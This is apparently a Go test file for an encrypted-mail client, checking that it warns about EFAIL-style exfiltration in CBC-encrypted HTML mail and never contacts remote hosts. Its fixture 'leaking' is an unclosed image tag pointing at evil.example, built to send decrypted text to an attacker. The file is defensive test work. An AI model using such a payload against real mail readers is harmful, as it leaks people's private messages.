package client_test

import (
	"context"
	"errors"
	"net"
	"slices"
	"strings"
	"testing"

	"github.com/sealmail/sealmail/internal/client"
)

// leaking is HTML that would make a reader that loads pictures send the text along.
const leaking = "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\nthe secret <b>text</b>\r\n\">\r\n"

// seal signs an entity by whom it is given, if by anybody, and encrypts it to Bob.
func (w *world) seal(c *client.Client, entity, cipher string, by *client.KeyFiles) string {
	w.t.Helper()
	p := client.EncryptParams{To: []string{w.in("bob.pem")}, Cipher: cipher}
	if by != nil {
		p.Sign = &client.SignParams{Keys: *by}
	}
	if err := c.Encrypt(w.t.Context(), p, w.write("entity", entity), client.Output{Name: w.in("sealed")}); err != nil {
		w.t.Fatal(err)
	}
	return w.read("sealed")
}

func codes(warnings []client.WarningReport) (list []string) {
	for _, w := range warnings {
		list = append(list, w.Code)
	}
	return list
}

// TestExfiltration reads messages as somebody makes them who wants a decrypted text: what is said depends on whether
// anything shows that it was not altered.
func TestExfiltration(t *testing.T) {
	w := newWorld(t)
	alice, bob := w.issue("alice", "p256"), w.issue("bob", "p256")
	c := w.trusted()
	remote := "Content-Type: text/html\r\n\r\n<p>text</p><img src=http://tracker.example/x>\r\n"
	const from = "From: alice@example.org\r\n"
	sign := func(message string) string {
		t.Helper()
		if err := c.Sign(t.Context(), client.SignParams{Keys: alice}, w.write("inside", message), client.Output{Name: w.in("outside")}); err != nil {
			t.Fatal(err)
		}
		return w.read("outside")
	}
	for about, test := range map[string]struct {
		message string
		want    bool
		strong  bool
	}{
		"CBC":                           {w.seal(c, leaking, "aes-256-cbc", nil), true, true},
		"CBC, a picture":                {w.seal(c, remote, "aes-256-cbc", nil), true, false},
		"CBC, nothing elsewhere":        {w.seal(c, "Content-Type: text/html\r\n\r\n<p>text</p>\r\n", "aes-256-cbc", nil), false, false},
		"CBC, plain text":               {w.seal(c, strings.Replace(leaking, "html", "plain", 1), "aes-256-cbc", nil), false, false},
		"GCM":                           {w.seal(c, leaking, "aes-256-gcm", nil), false, false},
		"CBC, signed inside":            {from + w.seal(c, leaking, "aes-256-cbc", &alice), false, false},
		"CBC, signed inside by another": {"From: eve@example.org\r\n" + w.seal(c, leaking, "aes-256-cbc", &alice), true, true},
		"CBC, signed outside":           {from + sign(w.seal(c, leaking, "aes-256-cbc", nil)), true, true},
		"clear":                         {leaking, false, false},
		"CBC around GCM":                {w.seal(c, w.seal(c, leaking, "aes-256-gcm", nil), "aes-256-cbc", nil), false, false},
		"GCM around CBC":                {w.seal(c, w.seal(c, leaking, "aes-256-cbc", nil), "aes-256-gcm", nil), true, true},
	} {
		err := c.Read(t.Context(), client.ReadParams{ID: w.write("message.eml", test.message), Keys: bob}, func(r *client.Report) error {
			i := slices.IndexFunc(r.Warnings, func(w client.WarningReport) bool { return w.Code == "exfiltration" })
			if (i >= 0) != test.want || i >= 0 && strings.HasPrefix(r.Warnings[i].Reason, "this looks as if") != test.strong {
				t.Errorf("%s: %s, %v", about, r.Verdict, r.Warnings)
			}
			return nil
		})
		if err != nil {
			t.Fatalf("%s: %v", about, err)
		}
	}
}

// TestNothingDials reads and fetches mail that names hosts wherever it can: in its text, and in certificates that lead to no
// anchor. Nobody is asked for anything; of certificates that do, there are servers to ask.
func TestNothingDials(t *testing.T) {
	w := newWorld(t)
	bob := w.issue("bob", "p256")
	if _, err := client.CAInit(t.Context(), w.options(), client.CAInitParams{Dir: w.in("evil"), Name: "Evil", Key: "p256", Days: 3650, Unprotected: true, BaseURL: "http://evil.example:8080"}); err != nil {
		t.Fatal(err)
	}
	_, err := client.CAIssue(t.Context(), w.options(), client.CAIssueParams{Dir: w.in("evil"), Purpose: "mail", Key: "p256",
		Email: []string{"eve@example.org"}, Name: "Eve", Output: client.Output{Name: w.in("eve.pem")}})
	if err != nil {
		t.Fatal(err)
	}
	eve := client.KeyFiles{Key: []string{w.in("eve.pem")}}
	everything := "Content-Type: text/html\r\n\r\n<html manifest=http://a.example><base href=http://b.example/><link rel=stylesheet href=http://c.example>" +
		"<style>@import 'http://d.example'; p{background:url(http://e.example)}</style><body background=http://f.example><img src=http://g.example srcset='http://h.example 2x'>" +
		"<iframe src=http://i.example></iframe><object data=http://j.example></object><video src=http://k.example poster=http://l.example></video>" +
		"<script src=http://m.example></script><meta http-equiv=refresh content='0;url=http://n.example'><form action=http://o.example><input type=image src=http://p.example>\r\n"
	message := "From: eve@example.org\r\n" + w.seal(w.client(), everything, "aes-256-cbc", &eve)
	for _, trusted := range []bool{false, true} {
		o := w.account("bob", &folder{validity: 1, messages: []string{message}})
		var dialed []string
		o.Dial = func(_ context.Context, _, address string) (net.Conn, error) {
			dialed = append(dialed, address)
			return nil, errors.New("there is no network")
		}
		c, err := client.New(o)
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		if trusted { // the other side of the test: it would see who is asked
			anchors, err := c.CertAnchors(w.in("evil/root.pem"))
			if err == nil {
				_, err = c.CertTrust(anchors, "mail")
			}
			if err != nil {
				t.Fatal(err)
			}
		}
		read := func(id string) {
			t.Helper()
			err := c.Read(t.Context(), client.ReadParams{ID: id, Folder: "INBOX", Keys: bob}, func(r *client.Report) error {
				if len(r.Signatures) != 1 || r.Signatures[0].Checks.Integrity.Status != "passed" || !slices.Contains(codes(r.Warnings), "remote-content") {
					t.Errorf("%+v", r)
				}
				return nil
			})
			if err != nil {
				t.Fatal(err)
			}
		}
		read(w.write("message.eml", message))
		if len(dialed) > 0 {
			t.Errorf("read of a file asks %q", dialed)
		}
		read("1")
		if err := c.Fetch(t.Context(), client.FetchParams{}, func(client.ListLine) error { return nil }); err != nil {
			t.Fatal(err)
		}
		if trusted != (len(dialed) > 0) || slices.ContainsFunc(dialed, func(a string) bool { return a != "evil.example:8080" }) {
			t.Errorf("trusted %v: asked are %q", trusted, dialed)
		}
	}
}
